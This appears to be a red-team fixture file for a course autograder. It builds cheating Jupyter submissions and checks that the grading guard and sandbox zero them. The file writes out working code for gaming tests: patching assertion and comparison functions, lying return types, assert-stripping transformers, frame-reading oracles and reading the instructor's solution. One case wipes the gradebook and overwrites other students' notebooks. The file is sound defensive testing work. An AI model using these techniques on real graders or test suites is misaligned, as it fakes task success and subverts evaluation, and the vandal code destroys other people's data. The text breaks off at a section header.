"""Red-team submissions of Lab 1: adversarial ones that try to earn points they should not, and faulty ones.

Each entry builds one student's submission folder from the reference solution and states the exact outcome:
the autograded test cells that must score zero, or ``ALL`` when the whole submission must score zero; the cells
where its wrong answer keeps the checks it passes on its own (``keeps``); every other autograded test cell must earn
full marks. The scores themselves are read from the instructor notebook (points, check weights, the cells that
record torch calls: ``boundary_cases.expected_scores``), so lab edits do not break the expectations.
``tests/test_redteam.py`` grades all of them as one class, next to honest students whose grades must not change.

Every adversarial answer is wrong on the question it targets, so that only its cheat could make that question
pass. With partial credit (checks.py) the rule is: tampering the grader finds (a guard finding, a lying answer type,
code that can switch off call recording) zeroes the cell it aims at; an attack the grading boundary makes harmless
without seeing it earns exactly what its wrong answer earns alone (``boundary_cases``' docstring).
``test_redteam_controls.py`` shows for some of them, as a control, that they do earn the points with the grading
guard and the sandbox off (``EFFICIENT_AI_GUARD=off``, ``EFFICIENT_AI_SANDBOX=off``).
"""
from __future__ import annotations

import copy
import json
import os
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Callable

import nbformat
from boundary_cases import expected_scores as lab_expected_scores
from boundary_cases import recording_tests

from course.common.notebooks import (
    cell_points,
    grade_id,
    is_autograded_test,
    make_submission,
    read_notebook,
    replace_cell_source,
)
from course.common.paths import REPO_ROOT
from course.grader.nbgrader_ext import hidden_test_lines

ALL = "all"
LAB = "lab1"


@dataclass
class RedTeamCase:
    """One submission: how to build it, and which test cells must score zero."""

    student: str
    what: str
    build: Callable  # reference notebook -> {filename: notebook or bytes or str}; {} submits nothing
    zero: set[str] | str = field(default_factory=set)  # grade ids of test cells scoring zero, or ALL
    feedback_must_not_contain: tuple[str, ...] = ()
    needs_sandbox: bool = False
    keeps: dict[str, tuple[str, ...]] = field(default_factory=dict)  # cell -> names of checks its wrong answer passes
    loses: dict[str, tuple[str, ...]] = field(default_factory=dict)  # cell -> names of the only checks it fails
    bypasses_recording: bool = False  # the static scan finds code that can switch off call recording: every test
    # cell that records torch calls scores zero (docs/SECURITY.md, static scan)
    guarded: set[str] = field(default_factory=set)  # cells of ``zero`` only the grading guard zeroes (its finding):
    # without the guard they earn what ``keeps`` says (test_redteam_controls.py)


def answer(nb, gid: str) -> str:
    return next(cell.source for cell in nb.cells if grade_id(cell) == gid)


def with_answer(gid: str, source: str | Callable[[str], str]):
    """A builder that replaces one answer cell (``source`` may be a function of the reference answer)."""
    def build(reference):
        text = source(answer(reference, gid)) if callable(source) else source
        return {f"{LAB}.ipynb": replace_cell_source(reference, gid, text)}
    return build


def insert_after(nb, gid: str, source: str):
    """A copy of ``nb`` with a new student code cell after cell ``gid``."""
    result = copy.deepcopy(nb)
    index = next(i for i, cell in enumerate(result.cells) if grade_id(cell) == gid)
    result.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return result


def notebook_json(nb) -> str:
    return nbformat.writes(nb)


# ---------------------------------------------------------------------------------------------------------------
# Wrong answers that cheats try to rescue
WRONG_GEMM = '''def gemm(A, B):
    C = torch.zeros(A.shape[0], B.shape[1], dtype=A.dtype, device=A.device)
    for i in range(A.shape[0]):
        for j in range(B.shape[1]):
            for k in range(A.shape[1]):
                pass
    return C
'''
WRONG_GEMM_MAC = "def gemm_mac(x, y):\n    return 0\n"
WRONG_GEMM_IO = "def gemm_io(A, B):\n    return 0\n"
WRONG_LATENCY = '''def latency(fn, *args, warmup=10, repeat=100, **kwargs):
    for _ in range(warmup + repeat):
        fn(*args, **kwargs)
    return 0.0
'''
WRONG_ATTN_MAC = "def calc_attn_mac(B, H, L_q, L_kv, D_h):\n    return 0\n"
# An int whose == is always true: the lying answer several cheats try to get past the exact type checks.
LYING_INT = '''class _Equal(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
'''
WRONG_GELU = "def gelu_tanh_python(input):\n    return torch.zeros_like(input)\n"
KEYS = ()  # what a dict of wrong values with the right keys keeps: nothing (issue 50: the keys the question gives are
# checked outside any check block, all or nothing, and earn no points by themselves)

def zero_values(reference_source: str, name: str) -> str:
    """The reference answer, then every value of the dict ``name`` set to zero (keys stay right)."""
    return reference_source + f"\n{name} = {{key: 0.0 for key in {name}}}\n"


# ---------------------------------------------------------------------------------------------------------------
# What the tests read: the instructor's notebook (and the release students get)
SOURCE = read_notebook(REPO_ROOT / "source" / LAB / f"{LAB}.ipynb")
RELEASE = read_notebook(REPO_ROOT / "release" / LAB / f"{LAB}.ipynb")
REFERENCE = make_submission(RELEASE, SOURCE)


def hidden_lines(gid: str) -> tuple[str, ...]:
    """The two longest lines of test cell ``gid``'s hidden tests (stripped) that are code, not a check's name (which
    the feedback of a failed check shows) or a definition: text feedback must never show."""
    cell = next(c for c in SOURCE.cells if grade_id(c) == gid)
    lines = sorted({line.strip() for line in hidden_test_lines(cell.source)
                    if line.strip() and not line.strip().startswith(("with check(", "def ", "#"))}, key=len, reverse=True)
    assert len(lines) >= 2, f"{gid} has no hidden tests to look for in feedback"
    return tuple(lines[:2])


HIDDEN_Q1_3 = hidden_lines("q1_3_gemm_mac_tests")  # the smuggler's target, read from the lab (it changes)


def tests_from(gid: str) -> set[str]:
    """The autograded test cells from ``gid`` on, in the notebook's order."""
    ids = [grade_id(c) for c in SOURCE.cells if is_autograded_test(c)]
    return set(ids[ids.index(gid):])

# ---------------------------------------------------------------------------------------------------------------
# Adversarial: tampering with what the tests rely on (caught by the grading guard)
ADVERSARIAL = [
    RedTeamCase(
        "adv01_global_recorder", "rebinds the notebook's record_torch_calls to one that records nothing, then calls matmul",
        with_answer("q1_1_gemm", '''import contextlib

@contextlib.contextmanager
def record_torch_calls():
    yield set()

def gemm(A, B):
    for i in range(1):
        for j in range(1):
            for k in range(1):
                pass
    return getattr(torch, "".join(["mat", "mul"]))(A, B)  # "mat" + "mul" would be folded to a constant
'''), {"q1_1_gemm_tests"}),
    RedTeamCase(
        "adv02_tensor_abs", "patches torch.Tensor.abs so every error is zero",
        with_answer("q1_1_gemm", WRONG_GEMM + "torch.Tensor.abs = lambda self: torch.zeros_like(self)\n"
                    "torch.testing.assert_close = lambda *args, **kwargs: None\n"), {"q1_1_gemm_tests"}),
    RedTeamCase(
        "adv03_function_mode", "leaves a TorchFunctionMode active that makes abs() and isclose() lie",
        with_answer("q1_1_gemm", WRONG_GEMM + '''from torch.overrides import TorchFunctionMode

class _Agree(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name == "abs":
            return torch.zeros_like(args[0])
        if name == "isclose":
            return torch.ones_like(args[0], dtype=torch.bool)
        return func(*args, **(kwargs or {}))

_Agree().__enter__()
'''), {"q1_1_gemm_tests"}, bypasses_recording=True),  # the guard finds the mode; the scan finds torch.overrides
    RedTeamCase(
        "adv04_assert_close", "replaces torch.testing.assert_close with a no-op",
        with_answer("q4_3_1_gelu", WRONG_GELU + "torch.testing.assert_close = lambda *args, **kwargs: None\n"
                    "torch.Tensor.max = lambda self, *args, **kwargs: torch.zeros(())\n"), {"q4_3_1_gelu_tests"}),
    RedTeamCase(
        "adv05_math_isclose", "replaces math.isclose with one that always agrees",
        with_answer("q2_1_1_intensity", lambda ref: zero_values(ref, "gemm_intensity_by_n")
                    + "import math\nmath.isclose = lambda *args, **kwargs: True\n"), {"q2_1_1_intensity_tests"},
        keeps={"q2_1_1_intensity_tests": KEYS}, guarded={"q2_1_1_intensity_tests"}),
    RedTeamCase(
        "adv06_math_global", "rebinds the notebook's global math to a fake module",
        with_answer("q2_2_intensity", lambda ref: zero_values(ref, "gemv_intensity_by_n")
                    + "import types\nmath = types.SimpleNamespace(isclose=lambda *args, **kwargs: True)\n"),
        {"q2_2_intensity_tests"}),
    RedTeamCase(
        "adv07_contract_helper", "rebinds the tests' own helper as_integer (from checks import *) so a lying int passes",
        with_answer("q1_3_gemm_mac", '''as_integer = lambda value, what: value

''' + LYING_INT + '''
def gemm_mac(x, y):
    return _Equal(0)
'''), {"q1_3_gemm_mac_tests"}),
    RedTeamCase(
        "adv08_builtins", "replaces builtins.type so exact type checks accept anything (the kernel goes mute)",
        with_answer("q1_4_gemm_io", '''import builtins

''' + LYING_INT + '''
_real_type = builtins.type
builtins.type = lambda obj, *rest: int if _real_type(obj) is _Equal and not rest else _real_type(obj, *rest)

def gemm_io(A, B):
    return _Equal(0)
'''), {"q1_4_gemm_io_tests"}),  # the kernel goes mute (a lambda for builtins.type breaks ipykernel's message
    # handler): the grader replaces it with a fresh kernel, so only this question (its answer never ran there) is lost
    RedTeamCase(
        "adv09_input_transformer", "adds an input transformer that turns every later test cell into `pass`",
        with_answer("q1_3_gemm_mac", WRONG_GEMM_MAC + '''get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("assert" in line for line in lines) else lines)
'''), {"q1_3_gemm_mac_tests"}),
    RedTeamCase(
        "adv10_ast_transformer", "adds an AST transformer that deletes every assert",
        with_answer("q1_4_gemm_io", WRONG_GEMM_IO + '''import ast

class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(_NoAsserts())
'''), {"q1_4_gemm_io_tests"}),
    RedTeamCase(
        "adv11_pre_run_hook", "registers a pre_run_cell hook that patches math.isclose just before each cell",
        with_answer("q3_4_2_intensity", lambda ref: zero_values(ref, "decode_mlp_intensity_by_batch") + '''
def _before_each_cell(info):
    import math
    math.isclose = lambda *args, **kwargs: True

get_ipython().events.register("pre_run_cell", _before_each_cell)
'''), {"q3_4_2_intensity_tests"}),
    RedTeamCase(
        "adv12_hide_errors", "makes the kernel report every cell as passed (showtraceback and do_execute patched)",
        with_answer("q1_2_latency", WRONG_LATENCY + '''_shell = get_ipython()
_shell.showtraceback = lambda *args, **kwargs: None
_kernel_class = type(_shell.kernel)
_original_do_execute = _kernel_class.do_execute

async def _always_ok(self, *args, **kwargs):
    reply = await _original_do_execute(self, *args, **kwargs)
    reply["status"] = "ok"
    return reply

_kernel_class.do_execute = _always_ok
'''), {"q1_2_latency_tests"}),
    RedTeamCase(
        "adv13_partial_credit", "an int formatter and a displayed value spoof partial credit from a failing test",
        with_answer("q3_1_2_attn_mac", '''get_ipython().display_formatter.formatters["text/plain"].for_type(int, lambda obj, p, cycle: p.text("4"))

def calc_attn_mac(B, H, L_q, L_kv, D_h):
    get_ipython().displayhook(0)
    return 0
'''), {"q3_1_2_attn_mac_tests"}),
    RedTeamCase(
        "adv14_settrace", "installs a trace function (it could rewrite the tests' frames)",
        with_answer("q3_2_attn_io", '''import sys

def calc_attn_io(B, H, L_q, L_kv, D_h):
    return 0

def _tracer(frame, event, arg):
    return None

sys.settrace(_tracer)
'''), {"q3_2_attn_io_tests"}),
    RedTeamCase(
        "adv15_sys_modules", "replaces sys.modules['torch.testing'] and torch.testing with a fake",
        with_answer("q4_3_1_gelu", WRONG_GELU + '''import sys
import types

_fake = types.SimpleNamespace(assert_close=lambda *args, **kwargs: None)
sys.modules["torch.testing"] = _fake
torch.testing = _fake
'''), {"q4_3_1_gelu_tests"}),
    # Lying results (the contract's exact types: a subclass is a LyingAnswer, which zeroes the cell)
    RedTeamCase(
        "adv16_lying_int", "returns an int subclass whose == is always true",
        with_answer("q1_3_gemm_mac", LYING_INT + '''
def gemm_mac(x, y):
    return _Equal(0)
'''), {"q1_3_gemm_mac_tests"}),
    RedTeamCase(
        "adv17_lying_float", "latency returns a float subclass that compares within any bounds",
        with_answer("q1_2_latency", '''class _Anything(float):
    def __le__(self, other):
        return True
    def __ge__(self, other):
        return True

def latency(fn, *args, warmup=10, repeat=100, **kwargs):
    for _ in range(warmup + repeat):
        fn(*args, **kwargs)
    return _Anything(0.0)
'''), {"q1_2_latency_tests"}),
    RedTeamCase(
        "adv18_lying_dict", "a dict subclass reads the test's expected value from the caller's frame",
        with_answer("q3_4_3_intensity", lambda ref: ref + '''
import sys

class _Peek(dict):
    def __getitem__(self, key):
        frame = sys._getframe(1)
        return frame.f_locals.get("expected", 0.0)

prefill_mlp_intensity_by_len = _Peek({key: 0.0 for key in prefill_mlp_intensity_by_len})
'''), {"q3_4_3_intensity_tests"}),
    RedTeamCase(
        "adv19_lying_tensor", "gemm returns a tensor subclass whose every operation returns zeros",
        with_answer("q1_1_gemm", '''class _Zero(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        result = super().__torch_function__(func, types, args, kwargs or {})
        if func.__name__ in ("abs", "isclose"):
            return torch.zeros_like(result.as_subclass(torch.Tensor)) if func.__name__ == "abs" else torch.ones_like(result.as_subclass(torch.Tensor))
        return result

def gemm(A, B):
    for i in range(1):
        for j in range(1):
            for k in range(1):
                pass
    return torch.zeros(A.shape[0], B.shape[1], dtype=A.dtype, device=A.device).as_subclass(_Zero)
'''), {"q1_1_gemm_tests"}, bypasses_recording=True),  # a lying type, and __torch_function__ (the scan)
    # The grading environment (the sandbox: no grading variables, no course folder)
    RedTeamCase(
        "adv20_copy_reference", "when it sees NBGRADER_EXECUTION, runs the instructor's solution from source/",
        with_answer("q1_3_gemm_mac", WRONG_GEMM_MAC + '''import json
import os

if os.environ.get("NBGRADER_EXECUTION"):
    for _path in ("../../../source/lab1/lab1.ipynb", "../../source/lab1/lab1.ipynb"):
        try:
            for _cell in json.load(open(_path))["cells"]:
                if _cell["metadata"].get("nbgrader", {}).get("grade_id") == "q1_3_gemm_mac":
                    exec("".join(_cell["source"]))
        except Exception:
            pass
'''), {"q1_3_gemm_mac_tests"}, needs_sandbox=True),
    RedTeamCase(
        "zz_vandal", "tries to zero the gradebook and overwrite other students' notebooks (graded last)",
        with_answer("q1_4_gemm_io", lambda ref: ref + '''
import glob
import sqlite3

for _db in glob.glob("../../../gradebook.db") + glob.glob("../../../../gradebook.db"):
    try:
        _con = sqlite3.connect(_db)
        _con.execute("UPDATE grade SET auto_score = 0")
        _con.commit()
    except Exception:
        pass
for _nb in glob.glob("../../*/lab1/lab1.ipynb") + glob.glob("../../../submitted/*/lab1/lab1.ipynb"):
    try:
        open(_nb, "w").write("{}")
    except Exception:
        pass
'''), set(), needs_sandbox=True),
    RedTeamCase(
        "adv21_edited_utils", "submits an edited checks.py and utils.py (the grader's INSTRUCTOR_MODULES) whose "
        "as_integer accepts anything",
        lambda ref: {f"{LAB}.ipynb": replace_cell_source(ref, "q1_4_gemm_io", LYING_INT + '''
def gemm_io(A, B):
    return _Equal(0)
'''), "checks.py": "from torch import *\nas_integer = as_real = lambda value, what: value\n"
          "assert_integer = lambda *args, **kwargs: None\n",
            "utils.py": "from torch import *\nas_integer = lambda value, what: value\n"}, {"q1_4_gemm_io_tests"}),
    RedTeamCase(
        "adv22_shadow_module", "submits pandas.py, imported by the setup cell, that patches math.isclose",
        lambda ref: {f"{LAB}.ipynb": replace_cell_source(ref, "q2_1_1_intensity", zero_values(answer(ref, "q2_1_1_intensity"), "gemm_intensity_by_n")),
                     "pandas.py": "import math\nmath.isclose = lambda *args, **kwargs: True\nDataFrame = dict\n"},
        keeps={"q2_1_1_intensity_tests": KEYS}),  # pandas.py is never imported (isolated start): the zero values
    # alone are graded, and earn nothing (the keys earn no points); the TA is told the file was ignored
    # The guard itself
    RedTeamCase(
        "adv23_guard_deleted", "deletes the grading guard: every later test cell scores zero (fail closed)",
        with_answer("q3_1_2_attn_mac", WRONG_ATTN_MAC + "del _efficient_ai_guard\n"),
        tests_from("q3_1_2_attn_mac_tests")),  # read from the lab: the cells a lab edit adds after it count too
    # Smuggling hidden tests out through feedback (no points at stake: the answers are right)
    RedTeamCase(
        "adv24_smuggle", "copies what it can of the hidden tests while graded (its callers' source, In) and prints it "
        "later, raw and in an error, with hidden test lines it brought along (a leak from elsewhere)",
        lambda ref: {f"{LAB}.ipynb": insert_after(
            replace_cell_source(ref, "q1_3_gemm_mac", answer(ref, "q1_3_gemm_mac") + '''
import inspect
import linecache

_seen = []
_plain_gemm_mac = gemm_mac

def gemm_mac(x, y):
    _seen.extend("".join(linecache.getlines(frame.filename)) for frame in inspect.stack()[1:3])
    return _plain_gemm_mac(x, y)
'''), "q1_4_gemm_io", 'print("\\n".join(_seen))\nprint(In[-6:])\n'
            f'_leaked = [bytes.fromhex(h).decode() for h in {[line.encode().hex() for line in HIDDEN_Q1_3]!r}]\n'
            'print("\\n".join(_leaked))\n'
            'raise RuntimeError("\\n".join(_leaked) + "".join(_seen)[:3000])\n')},
        set(), feedback_must_not_contain=HIDDEN_Q1_3),
]

# ---------------------------------------------------------------------------------------------------------------
# Adversarial: attacks on a verdict decided in the student's own process (issue 14). Each attack class is aimed at
# its own question, whose answer is wrong; the tests run in the grader, so each must score zero there.
WRONG_THRESHOLD = "def gemm_compute_bound_n(gpu_name):\n    return 1\n"
WRONG_ATTN_MODULE_MAC = "def calc_attn_module_mac(batch_size, query_len, kv_len, gemma_config):\n    return 0\n"
WRONG_SDPA = '''def scaled_dot_product_attention(q, k, v, attn_mask=None):
    return torch.softmax(q @ k.transpose(-2, -1), dim=-1) @ v  # no 1/sqrt(d) scaling, mask ignored
'''
# Walks up the stack from ``frame`` for a test's variable: what a test running in this process would expose.
FRAME_ORACLE = '''def _read_from_frames(frame, names, default):
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name in names:
                if name in scope:
                    return scope[name]
        frame = frame.f_back
    return default
'''
MESSAGING_PATCH = '''import jupyter_client.session

_real_send = jupyter_client.session.Session.send

def _send_without_errors(self, stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type.get("msg_type") if isinstance(msg_or_type, dict) else msg_or_type
    if kind == "error":
        return None  # error outputs never leave the kernel
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"), "payload": [],
                   "user_expressions": {}}
    return _real_send(self, stream, msg_or_type, content, *args, **kwargs)

jupyter_client.session.Session.send = _send_without_errors
'''
CALLER_FRAME_ORACLE = FRAME_ORACLE + '''
import sys

def calc_attn_mac(B, H, L_q, L_kv, D_h):
    found = _read_from_frames(sys._getframe(1), ("_expected", "expected"), None)
    if found is None:
        try:
            raise RuntimeError()
        except RuntimeError as exc:
            found = _read_from_frames(exc.__traceback__.tb_frame.f_back, ("_expected", "expected"), 0)
    return found
'''
INSTANCE_ATTRIBUTE_ORACLE = FRAME_ORACLE + '''
import sys

def _oracle_value():
    # A plain torch.Tensor (its exact type passes the contract's as_real) whose .item reads the test's frame. Its own
    # value, 1.0, is wrong, also against the values carried forward from this submission's wrong gemm_mac (0).
    value = torch.tensor(1.0)
    value.item = lambda: _read_from_frames(sys._getframe(1), ("expected", "expected_by_key", "values"), 1.0)
    return value

gemm_intensity_by_n = {n: _oracle_value() for n in gemm_intensity_by_n}
'''
AUDIT_HOOKS = '''import math
import sys

_real_isclose = math.isclose
_real_assert_reals = assert_reals_by_key
_state = {"patched": False}

def _hook(event, args):
    if event != "compile" or not args or not isinstance(args[0], str):
        return
    try:
        source = args[0]
        shell = get_ipython()
        if "def calc_mlp_mac" in source:  # a locked cell compiles: what it binds becomes the guard's reference
            shell.user_ns["assert_reals_by_key"] = shell.user_ns["carry_forward"] = lambda *a, **k: None
        elif "gemv_intensity_by_n" in source or "def own_gemm_counts" in source:  # a test (or its kernel-side probe,
            math.isclose = lambda *a, **k: True                                 # all a test compiles here) compiles
            shell.user_ns["assert_reals_by_key"] = lambda *a, **k: None
            _state["patched"] = True
        elif _state["patched"]:  # the next compile (the guard's own check): undo first
            math.isclose = _real_isclose
            shell.user_ns["assert_reals_by_key"] = _real_assert_reals
            _state["patched"] = False
    except Exception:
        pass

sys.addaudithook(_hook)
'''
FUNCTION_MODE = '''from torch.overrides import TorchFunctionMode

class _AgreeMode(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("abs", "__abs__"):
            return torch.zeros_like(args[0])
        if name in ("isclose", "allclose"):
            return torch.ones_like(args[0], dtype=torch.bool) if name == "isclose" else True
        return func(*args, **(kwargs or {}))

_wrong_attention = scaled_dot_product_attention

def scaled_dot_product_attention(q, k, v, attn_mask=None):
    out = _wrong_attention(q, k, v, attn_mask)
    _AgreeMode().__enter__()  # left active: the comparisons after the call see zero errors
    return out
'''
GPU_SPECS_MUTATION = '''
for _spec in GPU_SPECS.values():  # every GPU's fp32 ridge point near 0: the smallest compute-bound N is 1
    _spec["fp32_tflops"] = 1e-9
'''
CONFIG_MUTATION = '''
import copy

_saved_config = dict(vars(GEMMA3_270M_CONFIG))
_real_deepcopy = copy.deepcopy

class _Nothing:
    def __getattr__(self, name):
        return 0

    def __setattr__(self, name, value):
        pass

for _name in ("hidden_size", "num_attention_heads", "num_key_value_heads", "head_dim"):
    setattr(GEMMA3_270M_CONFIG, _name, 0)
copy.deepcopy = lambda obj, memo=None: _Nothing() if obj is GEMMA3_270M_CONFIG else _real_deepcopy(obj, memo)
'''
CONFIG_RESTORED = '''vars(GEMMA3_270M_CONFIG).update(_saved_config)  # later answers use the real config
copy.deepcopy = _real_deepcopy
'''
DISPATCHER_OVERRIDE = '''
_aten = torch.library.Library("aten", "IMPL")

def _sub(self, other, *, alpha=1):
    if self.dtype == torch.float64:  # the tests' float64 errors are all zero
        return torch.zeros(torch.broadcast_shapes(self.shape, other.shape), dtype=torch.float64)
    return torch.add(self, other, alpha=-alpha)

def _isclose(self, other, rtol=1e-05, atol=1e-08, equal_nan=False):
    return torch.ones(torch.broadcast_shapes(self.shape, other.shape), dtype=torch.bool)

_aten.impl("sub.Tensor", _sub, "CPU")
_aten.impl("isclose", _isclose, "CPU")
'''


def boundary_oracles(reference):
    nb = reference
    for gid, source in {"q1_3_gemm_mac": WRONG_GEMM_MAC + MESSAGING_PATCH,
                        "q2_1_1_intensity": answer(reference, "q2_1_1_intensity") + "\n" + INSTANCE_ATTRIBUTE_ORACLE,
                        "q3_1_2_attn_mac": CALLER_FRAME_ORACLE}.items():
        nb = replace_cell_source(nb, gid, source)
    return {f"{LAB}.ipynb": nb}


def boundary_hooks(reference):
    nb = reference
    for gid, source in {"q2_2_intensity": zero_values(answer(reference, "q2_2_intensity"), "gemv_intensity_by_n") + AUDIT_HOOKS,
                        "q3_1_1_sdpa": WRONG_SDPA + FUNCTION_MODE,
                        "q3_4_2_intensity": zero_values(answer(reference, "q3_4_2_intensity"), "decode_mlp_intensity_by_batch")}.items():
        nb = replace_cell_source(nb, gid, source)
    return {f"{LAB}.ipynb": nb}


def boundary_trusted_data(reference):
    nb = reference
    for gid, source in {"q2_1_2_threshold": WRONG_THRESHOLD + GPU_SPECS_MUTATION,
                        "b3_1_attn_module_mac": WRONG_ATTN_MODULE_MAC + CONFIG_MUTATION,
                        "q4_3_1_gelu": WRONG_GELU + DISPATCHER_OVERRIDE}.items():
        nb = replace_cell_source(nb, gid, source)
    return {f"{LAB}.ipynb": insert_after(nb, "b3_1_attn_module_mac_tests", CONFIG_RESTORED)}


BOUNDARY = [
    RedTeamCase(
        "adv25_boundary_oracles",
        "messaging-layer patch (jupyter_client Session.send drops errors, reports every cell ok) with a wrong "
        "gemm_mac (Q1.3); instance-attribute oracle (plain tensors whose .item reads the test's frame) in "
        "gemm_intensity_by_n (Q2.1.1); caller-frame oracle (sys._getframe and a traceback's tb_frame) in "
        "calc_attn_mac (Q3.1.2)",
        boundary_oracles, {"q1_3_gemm_mac_tests", "q3_1_2_attn_mac_tests"},
        keeps={"q2_1_1_intensity_tests": KEYS}),  # none is seen as tampering: the oracles find no test frame and the
    # messaging patch changes only the kernel; each answer earns what it earns alone (Q2.1.1: nothing, its keys earn no points)
    RedTeamCase(
        "adv26_boundary_hooks",
        "audit hook: patches math.isclose while a hidden test cell compiles and undoes it before the guard looks "
        "(zero gemv_intensity_by_n, Q2.2), and rebinds assert_reals_by_key while a locked cell compiles so the guard "
        "adopts it (zero decode_mlp_intensity_by_batch, Q3.4.2); function-mode hiding: an unscaled attention "
        "leaves a TorchFunctionMode active that makes abs/isclose/allclose agree (Q3.1.1)",
        boundary_hooks, {"q3_1_1_sdpa_tests"}, bypasses_recording=True,  # the guard finds the function mode, the
        # scan torch.overrides (every cell recording calls); the audit hook changes only the kernel's helpers, never
        # seen: the zero values of Q2.2 and Q3.4.2 earn nothing (their right keys earn no points)
        keeps={"q2_2_intensity_tests": KEYS, "q3_4_2_intensity_tests": KEYS}),
    RedTeamCase(
        "adv27_boundary_trusted_data",
        "trusted-data mutation: GPU_SPECS edited so a constant gemm_compute_bound_n is right (Q2.1.2), "
        "GEMMA3_270M_CONFIG zeroed and copy.deepcopy replaced so calc_attn_module_mac = 0 is right (Bonus 3.1, "
        "restored in a cell after its test); dispatcher hiding: torch.library overrides aten::sub and "
        "aten::isclose on CPU so float64 errors vanish, with a gelu returning zeros (Q4.3.1)",
        boundary_trusted_data, {"b3_1_attn_module_mac_tests"},  # the kernel's own GPU_SPECS, config and dispatcher are
        # changed, never the grader's: each wrong answer keeps the checks it passes alone
        keeps={"q2_1_2_threshold_tests": (),  # a whole number is all or nothing, outside any check (issue 50)
               "q4_3_1_gelu_tests": ("device rule",)}),  # zeros compute nothing from the input: the method check
    # fails too, and the cell keeps a quarter of the device rule's share (checks.SKIPPED_METHOD_SHARE)
]


# ---------------------------------------------------------------------------------------------------------------
# Issue 50: answers that skip what the question asks (the library routine it asks students to write) earn a quarter of
# the question at most; switching the recording of torch calls off to hide them zeroes the question; a function
# redefined after its question was graded cannot rescue a later answer through carry-forward.
LIBRARY_GEMM = """def gemm(A, B):
    out = None
    for i in range(1):
        for j in range(1):
            for k in range(1):
                out = getattr(torch, "".join(["mat", "mul"]))(A, B)  # "mat" + "mul" would be folded to a constant
    return out
"""
LIBRARY_SDPA = """def scaled_dot_product_attention(q, k, v, attn_mask=None):
    return F.scaled_dot_product_attention(q, k, v, attn_mask=attn_mask)
"""
LIBRARY_GELU = """def gelu_tanh_python(input):
    return F.gelu(input, approximate="tanh")
"""
# Blinds record_torch_calls: TorchFunctionMode (reached by getattr, which the static scan does not follow) enters and
# leaves the recorder's mode without pushing it, so no call is recorded; every other mode works as before.
RECORDER_BLINDED = """_modes = getattr(getattr(torch, "overr" + "ides"), "TorchFunction" + "Mode")
_real_enter, _real_exit = _modes.__enter__, _modes.__exit__

def _enter(self):
    return self if type(self).__name__ == "_Recorder" else _real_enter(self)

def _exit(self, *exc):
    return None if type(self).__name__ == "_Recorder" else _real_exit(self, *exc)

setattr(_modes, "__enter__", _enter)
setattr(_modes, "__exit__", _exit)

"""
# After Question 1.3 was graded, gemm_mac is redefined so that wrong intensities (MACs instead of FLOPs) match what
# the carry-forward would compute from it.
CARRY_FORWARD_REFIT = """def gemm_mac(x, y):  # redefined after Question 1.3 was graded: half the MACs
    return x.shape[0] * x.shape[1] * y.shape[1] // 2

gemm_intensity_by_n = {n: n ** 3 / (4 * 3 * n ** 2) for n in roofline_sizes}  # MACs instead of FLOPs
"""
# After Question 3.1.2 was graded, calc_attn_mac is redefined to 0 so that a module count without the attention's
# two products matches what the carry-forward would compute from it (Bonus 3.1).
ATTN_MAC_REFIT = """def calc_attn_mac(B, H, L_q, L_kv, D_h):  # redefined after Question 3.1.2 was graded
    return 0

def calc_attn_module_mac(batch_size, query_len, kv_len, gemma_config):  # the projections only
    H, n_h = gemma_config.hidden_size, gemma_config.num_attention_heads
    n_kv, d = gemma_config.num_key_value_heads, gemma_config.head_dim
    return batch_size * query_len * H * d * (2 * n_h + 2 * n_kv) + calc_attn_mac(batch_size, n_h, query_len, kv_len, d)
"""
METHOD = [
    RedTeamCase(
        "adv28_recording_switched_off",
        "torch.matmul reached by getattr inside dummy loops (Q1.1, past the static scan of gemm's code), PyTorch's "
        "attention (Q3.1.1) and F.gelu (Q4.3.1), with TorchFunctionMode's __enter__/__exit__ patched through getattr "
        "(in Q1.1's answer cell) so that record_torch_calls records nothing: the recorder's probe calls go "
        "unrecorded, which is tampering (checks.RecordingDisabled)",
        lambda ref: {f"{LAB}.ipynb": replace_cell_source(replace_cell_source(replace_cell_source(
            ref, "q1_1_gemm", RECORDER_BLINDED + LIBRARY_GEMM), "q3_1_1_sdpa", LIBRARY_SDPA),
            "q4_3_1_gelu", LIBRARY_GELU)},
        {"q1_1_gemm_tests", "q3_1_1_sdpa_tests", "q4_3_1_gelu_tests"}),
    RedTeamCase(
        "adv29_library_skips",
        "the unblinded twin of adv28: PyTorch's attention (Q3.1.1) and F.gelu (Q4.3.1) right in value, each "
        "failing only its method check, which caps the question at a quarter (checks.SKIPPED_METHOD_SHARE)",
        lambda ref: {f"{LAB}.ipynb": replace_cell_source(
            replace_cell_source(ref, "q3_1_1_sdpa", LIBRARY_SDPA), "q4_3_1_gelu", LIBRARY_GELU)},
        loses={"q3_1_1_sdpa_tests": ("implements attention itself",),
               "q4_3_1_gelu_tests": ("written from elementwise operations",)}),
    RedTeamCase(
        "adv30_carry_forward_refit",
        "gemm_mac redefined in Q2.1.1's answer cell, after Q1.3 was graded, to fit wrong intensities (MACs instead "
        "of FLOPs) in Q2.1.1 and Q2.2; calc_attn_mac redefined to 0 in Bonus 3.1's answer cell, after Q3.1.2 was "
        "graded, to fit a module count without the attention products: carry-forward uses each function as its "
        "question graded it, so all three are wrong",
        lambda ref: {f"{LAB}.ipynb": replace_cell_source(replace_cell_source(
            replace_cell_source(ref, "q2_1_1_intensity", CARRY_FORWARD_REFIT), "q2_2_intensity",
            "gemv_intensity_by_n = {n: n * n / (4 * (n * n + 2 * n)) for n in roofline_sizes}  # MACs, not FLOPs\n"),
            "b3_1_attn_module_mac", ATTN_MAC_REFIT)},
        {"q2_1_1_intensity_tests", "q2_2_intensity_tests", "b3_1_attn_module_mac_tests"}),
]


# ---------------------------------------------------------------------------------------------------------------
# Faulty submissions: each is graded, with its points so far and a reason. The repairs of a notebook's structure (a
